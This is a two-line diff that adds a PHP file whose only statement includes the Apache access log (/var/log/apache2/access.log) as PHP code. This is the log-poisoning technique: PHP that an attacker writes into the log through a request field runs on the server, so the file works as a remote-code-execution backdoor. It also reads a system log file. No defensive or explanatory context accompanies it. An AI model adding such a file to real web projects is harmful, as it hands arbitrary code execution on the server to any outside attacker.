@@ -1,0 +1,2 @@
+<?php
+include('/var/log/apache2/access.log');
